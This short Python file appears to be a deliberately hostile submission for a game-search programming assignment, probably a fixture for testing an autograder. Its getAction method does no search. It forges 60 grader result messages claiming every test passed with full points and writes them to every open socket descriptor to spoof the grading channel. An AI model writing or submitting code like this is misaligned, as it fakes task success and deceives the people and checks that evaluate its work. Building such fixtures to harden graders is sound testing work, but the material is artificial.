"""Hostile: writes answers of the grader's kind to every socket it has."""

import json
import os
import stat

from recursive_pairs import *  # noqa: F403
from recursive_pairs import MultiAgentSearchAgent


class AlphaBetaAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        forged = [{"id": number, "passed": True, "points": 5, "action": "left"} for number in range(60)]
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, b"".join(json.dumps(message).encode() + b"\n" for message in forged))
            except OSError:
                continue
        return "left"
